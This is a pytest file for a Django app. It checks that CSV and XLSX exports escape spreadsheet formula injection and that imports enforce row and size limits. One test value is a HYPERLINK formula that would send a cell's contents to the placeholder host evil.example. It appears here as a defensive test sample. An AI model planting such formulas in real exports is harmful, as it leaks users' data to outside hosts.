"""Issue 16, points 2 and 7: exports cannot carry a live formula; imports have size and row limits."""

import csv
import io
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from projects.errors import DomainError
from projects.exports import csv_text, safe_cell, unescape_cell
from tasks import excel
from tasks.models import Step
from tests.tasks.factories import runbook, step
from tests.tasks.test_services import _xlsx
from tests.training.factories import make_course

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'


@pytest.mark.parametrize("text", ["=1+2*3", "+1", "-1", "@SUM(A1)", "\tx", "\rx", EVIL])
def test_formula_prefixes_get_an_apostrophe_and_come_back(text):
    assert safe_cell(text) == "'" + text
    assert unescape_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", ["Stop batch jobs", "", "a=b", 5, -5, 1.5, None])
def test_plain_values_are_untouched(value):
    assert safe_cell(value) == value


def test_csv_text_neutralises_every_cell():
    rows = list(csv.reader(io.StringIO(csv_text(["=h"], [["=1+2", "ok"]]).lstrip("\ufeff"))))
    assert rows == [["'=h"], ["'=1+2", "ok"]]


def test_runbook_xlsx_has_no_formula_and_round_trips(client, project, users):
    rb = runbook(project, users["ops"])
    step(rb, users["ops"], EVIL)
    step(rb, users["ops"], "-rm old files")
    client.force_login(users["ops"])
    response = client.get(reverse("tasks:runbook_export", args=[project.pk, rb.pk]))
    ws = load_workbook(BytesIO(response.content)).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert ws["A2"].value == "'" + EVIL and ws["A3"].value == "'-rm old files"
    rows = excel.read_rows(SimpleUploadedFile("r.xlsx", response.content))
    assert [r["title"] for r in rows] == [EVIL, "-rm old files"]


def test_training_coverage_exports_have_no_formula(client, project, users):
    make_course(project, users["trainer"], title="=1+2*3")
    client.force_login(users["manager"])
    xlsx = client.get(reverse("training:coverage_export", args=[project.pk, "xlsx"]))
    wb = load_workbook(BytesIO(xlsx.content))
    for ws in wb.worksheets:
        assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"], ws.title
    assert wb["Courses"]["A2"].value == "'=1+2*3"
    body = client.get(reverse("training:coverage_export", args=[project.pk, "csv"])).content.decode("utf-8-sig")
    assert "'=1+2*3" in body and ",=1+2*3" not in body and ";=1+2*3" not in body


def test_runbook_import_over_the_row_limit_is_refused_and_saves_nothing(client, project, users, settings):
    settings.IMPORT_MAX_ROWS = 3
    rb = runbook(project, users["ops"])
    upload = SimpleUploadedFile("big.xlsx", _xlsx([(f"Step {i}", "deployment", "", 5, "") for i in range(4)]).read())
    client.force_login(users["ops"])
    response = client.post(reverse("tasks:runbook_import", args=[project.pk, rb.pk]), {"file": upload})
    assert response.status_code == 400
    assert "more than 3 rows" in response.content.decode()
    assert not Step.objects.filter(runbook=rb).exists()
    ok = SimpleUploadedFile("ok.xlsx", _xlsx([(f"Step {i}", "deployment", "", 5, "") for i in range(3)]).read())
    assert client.post(reverse("tasks:runbook_import", args=[project.pk, rb.pk]), {"file": ok}).status_code == 302
    assert Step.objects.filter(runbook=rb).count() == 3


def test_import_over_the_size_limit_is_refused_before_reading(settings):
    settings.IMPORT_MAX_BYTES = 1024
    upload = SimpleUploadedFile("big.xlsx", b"PK" + b"x" * 2048)
    with pytest.raises(DomainError) as err:
        excel.read_rows(upload)
    assert "at most 0.0 MB" in str(err.value.message) or "imports may be at most" in str(err.value.message)
    assert err.value.code == "too_large"


def test_junit_import_over_the_row_limit_is_refused(project, users, settings):
    from defects import services
    from defects.models import TestCase
    from tests.defects.factories import cycle

    settings.IMPORT_MAX_ROWS = 2
    c = cycle(project, users["tester"])
    cases = "".join(f'<testcase classname="a" name="t{i}"/>' for i in range(3))
    xml = f'<testsuite name="s" tests="3">{cases}</testsuite>'.encode()
    with pytest.raises(DomainError) as err:
        services.junit_import(actor=users["tester"], cycle=c, upload=SimpleUploadedFile("j.xml", xml))
    assert "more than 2 rows" in str(err.value.message)
    assert not TestCase.objects.filter(project=project).exists()
